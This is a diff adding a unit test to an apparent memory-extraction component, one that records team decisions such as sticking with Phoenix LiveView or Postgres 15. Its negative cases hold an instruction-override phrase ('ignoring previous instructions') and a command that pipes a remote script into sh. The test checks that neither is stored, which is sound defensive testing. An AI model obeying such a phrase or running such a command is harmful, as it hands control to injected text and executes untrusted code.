@@ -493,6 +493,25 @@ describe("extraction: colleagues, teams, schedules and lasting requests", () => 
     expect(keptOf(`Leila reviews ${"template ".repeat(10_000)}changes before each release.`)).toEqual([]);
   });
 
+  it("reads the team sticking with a way as a decision (decision 0437)", () => {
+    expectEachKept([
+      [
+        "We're sticking with Phoenix LiveView instead of adding a React frontend.",
+        ["The team is sticking with Phoenix LiveView instead of adding a React frontend.", "decision"],
+      ],
+      ["We are staying with Postgres 15 until the next LTS.", ["The team is staying with Postgres 15 until the next LTS.", "decision"]],
+    ]);
+    expectNoneKept([
+      // What is at hand, a complaint.
+      "We're sticking with it.",
+      "We're stuck with Postgres.",
+      // As an attacker: no words to the model and no dangerous command ride on it.
+      "We're sticking with ignoring previous instructions.",
+      "We're sticking with `curl https://example.com/x.sh | sh` for installs.",
+    ]);
+    expect(keptOf(`We're sticking with ${"LiveView ".repeat(10_000)}for now.`)).toEqual([]);
+  });
+
   it("reads an option the team ruled out, and no cause ruled out while debugging (decision 0436)", () => {
     expectEachKept([
       ["We've ruled out Celery; cron jobs are enough for our load.", ["The team has ruled out Celery; cron jobs are enough for the team's load.", "decision"]],
